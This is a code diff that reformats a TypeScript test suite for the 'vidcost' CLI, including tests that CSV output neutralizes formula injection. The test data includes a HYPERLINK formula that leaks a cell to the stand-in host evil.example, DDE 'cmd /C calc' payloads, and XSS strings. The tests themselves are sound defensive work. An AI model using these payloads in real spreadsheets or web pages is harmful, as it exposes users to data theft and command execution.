@@ -43,7 +43,18 @@ function parseCsv(text: string): string[][] {
 
 const DANGEROUS = ['=', '+', '-', '@', '\t', '\r'];
 
-const HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1', '| x | <script>alert(1)</script>', '[click](javascript:alert(1)) **bold** `code` ~~gone~~ $x$', '<img src=x onerror=alert(1)>', 'line\nbreak | two'];
+const HOSTILE_NAMES = [
+  '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
+  "+1+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(1,2)',
+  '\t=1+1',
+  '\r=1+1',
+  '| x | <script>alert(1)</script>',
+  '[click](javascript:alert(1)) **bold** `code` ~~gone~~ $x$',
+  '<img src=x onerror=alert(1)>',
+  'line\nbreak | two',
+];
 
 function scenarioWith(names: readonly string[], scenarioName = '=cmd|"/c calc"!A1'): string {
   return [
@@ -86,7 +97,12 @@ describe('CSV: formula injection is neutralized (OWASP)', () => {
 
   it('renderCsv neutralizes each dangerous first character, including the full-width forms', () => {
     const cells = ['=1+1', '+1', '-1x', '-2+3', '@x', '\tx', '\rx', '\uFF1D1+1', 'safe', ' =1'];
-    const out = parseCsv(renderCsv(['c'], cells.map((c) => [c])));
+    const out = parseCsv(
+      renderCsv(
+        ['c'],
+        cells.map((c) => [c]),
+      ),
+    );
     expect(out.slice(1).map((r) => r[0])).toEqual(["'=1+1", "'+1", "'-1x", "'-2+3", "'@x", "'\tx", "'\rx", "'\uFF1D1+1", 'safe', ' =1']);
   });
 });
@@ -271,7 +287,12 @@ describe('a reader that stops early', () => {
     const names = Array.from({ length: 300 }, (_, i) => `workload ${i}`);
     writeFileSync(join(dir, 's.yaml'), scenarioWith(names, 'Big'));
     const bin = join(__dirname, '..', 'bin', 'vidcost.js');
-    const r = spawnSync('bash', ['-c', `"${process.execPath}" "${bin}" estimate s.yaml | head -c 1 >/dev/null; echo "status=\${PIPESTATUS[0]}"`], { cwd: dir, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'], env: { PATH: process.env['PATH'] ?? '', NO_COLOR: '1' } });
+    const r = spawnSync('bash', ['-c', `"${process.execPath}" "${bin}" estimate s.yaml | head -c 1 >/dev/null; echo "status=\${PIPESTATUS[0]}"`], {
+      cwd: dir,
+      encoding: 'utf8',
+      stdio: ['ignore', 'pipe', 'pipe'],
+      env: { PATH: process.env['PATH'] ?? '', NO_COLOR: '1' },
+    });
     expect(r.stderr).toBe('');
     expect(r.stdout).toBe('status=0\n');
   });
@@ -283,7 +304,13 @@ describe('a standard output another program left non-blocking', () => {
     const dir = tempDir();
     // far more than a pipe buffers, into a non-blocking pipe whose reader waits first: the direct
     // write meets EAGAIN and hands the rest over to the stream, which waits for the reader
-    writeFileSync(join(dir, 's.yaml'), scenarioWith(Array.from({ length: 1000 }, (_, i) => `workload ${i}`), 'Big'));
+    writeFileSync(
+      join(dir, 's.yaml'),
+      scenarioWith(
+        Array.from({ length: 1000 }, (_, i) => `workload ${i}`),
+        'Big',
+      ),
+    );
     const bin = join(__dirname, '..', 'bin', 'vidcost.js');
     const reader = [
       'import os, fcntl, subprocess, sys, time',
@@ -335,13 +362,21 @@ describe('extreme but valid numbers draw no JavaScript accidents', () => {
 
   it.each(extremes)('%s: every format of estimate, forecast and sweep (no NaN, Infinity or undefined)', async (_, clips, seconds, factor, budget) => {
     const dir = tempDir();
-    const scenario = ['version: 1', 'name: Extreme', 'offerings: [runway/gen4-turbo, runway/veo3.1-fast, fal/kling-3.0-pro]', budget, 'workloads:', `  - { name: w, clips_per_month: ${clips}, seconds_per_clip: ${seconds}, regeneration_factor: ${factor} }`].join('\n');
+    const scenario = [
+      'version: 1',
+      'name: Extreme',
+      'offerings: [runway/gen4-turbo, runway/veo3.1-fast, fal/kling-3.0-pro]',
+      budget,
+      'workloads:',
+      `  - { name: w, clips_per_month: ${clips}, seconds_per_clip: ${seconds}, regeneration_factor: ${factor} }`,
+    ].join('\n');
     writeFileSync(join(dir, 's.yaml'), scenario);
     for (const [command, ...rest] of runs) {
       const r = await vidcostInProcess([command!, 's.yaml', '--as-of', '2026-06-01', ...rest], { cwd: dir });
       expect(r.stderr, `${command} ${rest.join(' ')}`).toBe('');
       expect(r.status, `${command} ${rest.join(' ')}`).toBe(0);
-      for (const accident of ['NaN', 'Infinity', 'undefined', '[object Object]']) expect(r.stdout.includes(accident), `${command} ${rest.join(' ')} shows ${accident}`).toBe(false);
+      for (const accident of ['NaN', 'Infinity', 'undefined', '[object Object]'])
+        expect(r.stdout.includes(accident), `${command} ${rest.join(' ')} shows ${accident}`).toBe(false);
     }
   });
 });
